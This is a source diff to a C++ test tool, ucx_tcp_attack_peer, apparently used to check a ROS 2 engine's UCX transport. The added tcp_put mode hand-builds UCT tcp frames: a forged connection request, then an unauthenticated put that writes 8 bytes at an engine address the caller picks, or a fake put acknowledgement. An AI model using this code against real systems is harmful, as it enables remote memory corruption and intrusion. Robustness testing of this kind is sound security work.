@@ -4,15 +4,30 @@
 // UCX_TCP_RX_SEG_SIZE, UCX_RNDV_THRESH, UCX_ZCOPY_THRESH, ...), connects to a
 // ros2-engine target's UCX worker address and sends active messages, or a
 // put or get at an address of the engine, without any hello or capability.
+// With tcp_put= it speaks UCT's tcp wire protocol itself: it finds the
+// engine's UCX tcp port through a ucp connection, opens a socket of its own,
+// sends UCT's connection request and then a transport-level put request (the
+// message UCX's rendezvous uses to write into an announced buffer) naming an
+// address of the engine, or an acknowledgement of a put the engine never sent.
 //
 // Usage: ucx_tcp_attack_peer address=<hex UCX worker address> size=<bytes>
 //          [count=<n>] [eager=1] [linger_ms=<ms>]
 //        ucx_tcp_attack_peer address=<hex> rma=put|get remote=<hex address>
+//        ucx_tcp_attack_peer address=<hex> tcp_put=req|ack remote=<hex address>
 // Prints "RESULT <name> <value>" lines: sent (messages whose send completed
 // without error), first_error (the first failed send's status, or "none"),
 // ep_error (the status the endpoint's error handler saw, or "none"); with
-// rma=: rma (the put's or get's status once flushed, within 5 s). Exits 0
-// when it ran, whatever the engine did.
+// rma=: rma (the put's or get's status once flushed, within 5 s); with
+// tcp_put=: connected (yes once the engine acknowledged the connection
+// request), closed (yes when the engine closed the socket within 5 s of the
+// put message), put_acked (yes when it acknowledged the put). Exits 0 when it
+// ran, whatever the engine did.
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
 #include <ucp/api/ucp.h>
 
 #include <chrono>
@@ -20,6 +35,7 @@
 #include <cstdlib>
 #include <cstring>
 #include <map>
+#include <set>
 #include <string>
 #include <vector>
 
@@ -93,6 +109,141 @@ int RunRma(ucp_context_h context, ucp_worker_h worker, ucp_ep_h ep) {
   std::_Exit(0);
 }
 
+// UCT's tcp framing (UCX 1.13, src/uct/tcp/tcp.h): a connection opens with an
+// 8-byte magic number, then every message is a 5-byte header {uint8 am_id,
+// uint32 length} and `length` bytes; internal ids follow the 32 user ids.
+constexpr uint64_t kMagicNumber = 0xCAFEBABE12345678ull;
+constexpr uint8_t kCmAmId = 32, kPutReqAmId = 33, kPutAckAmId = 34;
+constexpr uint32_t kConnReq = 1, kConnAck = 2;
+
+void AppendFrame(std::vector<uint8_t>& out, uint8_t am_id, const std::vector<uint8_t>& body) {
+  const uint32_t length = static_cast<uint32_t>(body.size());
+  out.push_back(am_id);
+  out.insert(out.end(), reinterpret_cast<const uint8_t*>(&length), reinterpret_cast<const uint8_t*>(&length) + 4);
+  out.insert(out.end(), body.begin(), body.end());
+}
+
+template <typename T>
+void AppendRaw(std::vector<uint8_t>& out, const T& v) {
+  out.insert(out.end(), reinterpret_cast<const uint8_t*>(&v), reinterpret_cast<const uint8_t*>(&v) + sizeof(v));
+}
+
+// The engine's UCX tcp listening address: the peer of this process's
+// connected tcp sockets that are not accepted by one of its own listeners
+// (after ucp connected to the engine, those go to the engine's interface).
+bool FindEngineTcpAddress(sockaddr_in* engine) {
+  std::vector<int> fds;
+  if (DIR* d = opendir("/proc/self/fd")) {
+    while (dirent* e = readdir(d)) {
+      if (e->d_name[0] != '.') fds.push_back(std::atoi(e->d_name));
+    }
+    closedir(d);
+  }
+  std::set<uint16_t> listening;
+  std::vector<int> connected;
+  for (int fd : fds) {
+    sockaddr_in self{};
+    socklen_t len = sizeof(self);
+    int type = 0, accepting = 0;
+    socklen_t ilen = sizeof(int);
+    if (getsockname(fd, reinterpret_cast<sockaddr*>(&self), &len) != 0 || self.sin_family != AF_INET) continue;
+    if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &ilen) != 0 || type != SOCK_STREAM) continue;
+    if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &accepting, &ilen) == 0 && accepting) {
+      listening.insert(self.sin_port);
+    } else {
+      connected.push_back(fd);
+    }
+  }
+  for (int fd : connected) {
+    sockaddr_in self{}, peer{};
+    socklen_t len = sizeof(self), plen = sizeof(peer);
+    if (getsockname(fd, reinterpret_cast<sockaddr*>(&self), &len) != 0 || listening.count(self.sin_port)) continue;
+    if (getpeername(fd, reinterpret_cast<sockaddr*>(&peer), &plen) != 0) continue;
+    *engine = peer;
+    return true;
+  }
+  return false;
+}
+
+// Reads the engine's messages on `fd` until it closes the socket or
+// `deadline`; notes a connection acknowledgement and a put acknowledgement.
+bool ReadUntilClosed(int fd, std::chrono::steady_clock::time_point deadline, bool* conn_acked, bool* put_acked) {
+  std::vector<uint8_t> in;
+  while (std::chrono::steady_clock::now() < deadline) {
+    pollfd p{fd, POLLIN, 0};
+    if (poll(&p, 1, 50) <= 0) continue;
+    uint8_t buf[4096];
+    const ssize_t n = recv(fd, buf, sizeof(buf), 0);
+    if (n <= 0) return true;
+    in.insert(in.end(), buf, buf + n);
+    while (in.size() >= 5) {
+      uint32_t length = 0;
+      std::memcpy(&length, &in[1], 4);
+      if (in.size() < 5 + length) break;
+      uint32_t event = 0;
+      if (in[0] == kCmAmId && length >= 4) std::memcpy(&event, &in[5], 4);
+      if (in[0] == kCmAmId && (event & kConnAck)) *conn_acked = true;
+      if (in[0] == kPutAckAmId) *put_acked = true;
+      in.erase(in.begin(), in.begin() + 5 + length);
+    }
+  }
+  return false;
+}
+
+// tcp_put=req: a put request of 8 bytes at `remote=` of the engine, with the
+// 8 bytes after it; tcp_put=ack: an acknowledgement of put number
+// UINT32_MAX, the sequence number of an endpoint that never put.
+int RunTcpPut() {
+  sockaddr_in engine{};
+  if (!FindEngineTcpAddress(&engine)) {
+    fprintf(stderr, "ucx_tcp_attack_peer: found no tcp connection to the engine\n");
+    return 1;
+  }
+  const int fd = socket(AF_INET, SOCK_STREAM, 0);
+  if (fd < 0 || connect(fd, reinterpret_cast<sockaddr*>(&engine), sizeof(engine)) != 0) {
+    perror("ucx_tcp_attack_peer: connect");
+    return 1;
+  }
+  // The connection request: {event, flags, conn_sn} and the socket address
+  // of the interface it claims to come from (a port nobody listens on).
+  std::vector<uint8_t> req, out;
+  AppendRaw(req, kConnReq);
+  AppendRaw(req, uint8_t{0});
+  AppendRaw(req, uint64_t{0x5eed});
+  sockaddr_in claimed{};
+  claimed.sin_family = AF_INET;
+  claimed.sin_port = htons(9);
+  claimed.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  AppendRaw(req, claimed);
+  AppendRaw(out, kMagicNumber);
+  AppendFrame(out, kCmAmId, req);
+  bool conn_acked = false, put_acked = false;
+  if (send(fd, out.data(), out.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(out.size())) return 1;
+  ReadUntilClosed(fd, std::chrono::steady_clock::now() + std::chrono::milliseconds(500), &conn_acked, &put_acked);
+  Result("connected", conn_acked ? "yes" : "no");
+
+  out.clear();
+  std::vector<uint8_t> body;
+  if (Arg("tcp_put") == "ack") {
+    AppendRaw(body, uint32_t{UINT32_MAX});
+    AppendFrame(out, kPutAckAmId, body);
+  } else {
+    AppendRaw(body, uint64_t{std::strtoull(Arg("remote", "10").c_str(), nullptr, 16)});  // addr
+    AppendRaw(body, uint64_t{8});                                                          // length
+    AppendRaw(body, uint32_t{0});                                                          // sn
+    AppendFrame(out, kPutReqAmId, body);
+    out.insert(out.end(), 8, 'Z');
+  }
+  const bool sent = send(fd, out.data(), out.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(out.size());
+  const bool closed =
+      ReadUntilClosed(fd, std::chrono::steady_clock::now() + std::chrono::seconds(5), &conn_acked, &put_acked);
+  Result("sent", sent ? "1" : "0");
+  Result("closed", closed ? "yes" : "no");
+  Result("put_acked", put_acked ? "yes" : "no");
+  close(fd);
+  std::_Exit(0);
+}
+
 int Run() {
   std::vector<uint8_t> address;
   const std::string hex = Arg("address");
@@ -141,6 +292,17 @@ int Run() {
   }
 
   if (!Arg("rma").empty()) return RunRma(context, worker, ep);
+  if (!Arg("tcp_put").empty()) {
+    // One message through ucp, so that its tcp connections to the engine
+    // exist, then the raw socket.
+    char probe[8] = {};
+    ucp_request_param_t rp{};
+    Wait(worker, ucp_am_send_nbx(ep, /*id=*/7, nullptr, 0, probe, sizeof(probe), &rp),
+         std::chrono::steady_clock::now() + std::chrono::seconds(5));
+    const auto settle = std::chrono::steady_clock::now() + std::chrono::milliseconds(200);
+    while (std::chrono::steady_clock::now() < settle) ucp_worker_progress(worker);
+    return RunTcpPut();
+  }
   std::vector<char> payload(size, 'A');
   int sent = 0;
   std::string first_error = "none";
